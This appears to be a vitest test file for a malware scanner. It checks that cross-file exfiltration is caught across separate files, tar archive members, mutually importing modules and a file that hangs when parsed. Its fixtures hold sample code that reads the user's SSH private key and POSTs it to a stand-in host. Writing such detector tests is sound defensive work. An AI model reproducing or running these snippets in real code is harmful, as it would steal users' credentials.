import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { tarOf } from '../../../test/support/tar.ts';
import { HangError, type Run } from './bounded.ts';
import { prepareAll } from './languages.ts';
import { scanWhole } from './scan-whole.ts';

let root: string;
beforeAll(prepareAll);
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'whole-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const READ = "exports.key = () => require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');\n";
const SEND =
  "const { key } = require('./read.js');\nfetch('https://in.example', { method: 'POST', body: key() });\n";
let made = 0;
const plainly: Run = (work) => work();

function scan(
  files: { readonly [name: string]: string | Uint8Array },
  { run = plainly, most }: { readonly run?: Run; readonly most?: number } = {},
) {
  for (const [name, contents] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true });
    // Never the same twice: what was scanned before would not be scanned again.
    writeFileSync(
      join(root, name),
      typeof contents === 'string' ? `${contents}// ${made++}\n` : contents,
    );
  }
  const common = { item: 0, path: root, root, lane: 'programs', indicators: false } as const;
  const batch = { ...common, whole: true, files: Object.keys(files).sort() } as const;
  const outcomes = scanWhole(batch, () => {}, run, most);
  const across = outcomes
    .flatMap(({ results }) => results.flatMap(({ findings }) => findings))
    .filter(({ rule, path, file }) => rule === 'exfiltration' && path?.[0]?.file !== file)
    .map(({ file, line }) => `${file}:${line}`);
  return { outcomes, across, unread: outcomes.flatMap(({ unread }) => unread) };
}

test('what there is no room to hold is read twice, and shows the same', () => {
  const files = { 'read.js': READ, 'send.js': SEND, 'other.js': 'eval(x);\n' };
  const held = scan(files);
  expect(held.across).toEqual(['send.js:2']);
  expect(held.outcomes.map(({ file }) => file)).toEqual(['other.js', 'read.js', 'send.js']);
  const shown = ({ outcomes }: typeof held) => outcomes.map(({ results }) => results);
  for (const most of [0, READ.length + 20])
    expect(shown(scan(files, { most }))).toEqual(shown(held));
});

test('members of an archive are followed into each other, beside the rest of it', () => {
  const pack = tarOf({ 'read.js': READ, 'send.js': SEND });
  const { across, unread } = scan({ 'pack.tar': pack, 'x.js': 'eval(y);\n' });
  expect(across).toEqual(['pack.tar!/send.js:2']);
  expect(unread).toEqual([]);
});

test('members of an archive under one name are all scanned, whether there is room for them or not', () => {
  const once = tarOf({ 'read.js': READ, 'send.js': SEND }).subarray(0, -1024);
  for (const most of [1, 1_000_000]) {
    const pack = Buffer.concat([once, tarOf({ 'send.js': `\n${SEND}// ${most}\n` })]);
    const { across } = scan({ 'pack.tar': pack }, { most });
    expect(across).toEqual(['pack.tar!/send.js:2', 'pack.tar!/send.js:3']);
  }
});

test('files that import one another are both known to the other', () => {
  const a = `const b = require('./b.js');\n${READ}b.send(exports.key());\n`;
  const b =
    "const a = require('./a.js');\nexports.send = (x) => fetch('https://in.example', { method: 'POST', body: x });\nexports.all = () => exports.send(a.key());\n";
  expect(scan({ 'a.js': a, 'b.js': b }).across).toContain('b.js:2');
});

test('a file that hangs while it is followed is searched by words, and the others are followed', () => {
  let turn = 0;
  // The first that is followed, and not when it is searched by words.
  const run: Run = (work) => {
    if (turn++ === 0) throw new HangError();
    return work();
  };
  const { outcomes, unread } = scan({ 'read.js': READ, 'send.js': SEND }, { run });
  expect(unread).toEqual([{ path: join(root, 'read.js'), reason: 'scan_failed', detail: 'hangs' }]);
  const rules = outcomes.flatMap(({ results }) =>
    results.flatMap(({ findings }) => findings.map(({ rule, file }) => `${rule} ${file}`)),
  );
  expect(rules).toEqual(['unparseable-code read.js']);
});
